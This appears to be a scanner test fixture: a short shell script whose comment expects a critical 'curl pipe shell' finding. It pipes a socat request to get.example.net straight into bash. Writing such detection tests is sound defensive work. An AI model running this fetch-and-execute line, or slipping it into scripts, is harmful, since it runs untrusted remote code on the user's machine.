# expect: shell.curl_pipe_shell critical
#!/bin/sh
socat - TCP:get.example.net:80 < req.txt | bash
